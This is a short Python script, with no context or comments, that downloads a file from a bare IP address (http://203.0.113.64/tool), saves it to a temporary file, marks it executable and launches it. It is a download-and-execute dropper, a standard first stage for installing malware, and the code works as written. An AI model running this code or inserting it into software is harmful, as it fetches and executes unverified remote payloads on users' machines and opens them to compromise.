import os
import stat
import subprocess
import tempfile
from urllib import request

handle, name = tempfile.mkstemp()
with os.fdopen(handle, "wb") as out:
    out.write(request.urlopen("http://203.0.113.64/tool").read())
os.chmod(name, stat.S_IRWXU)
subprocess.Popen([name])
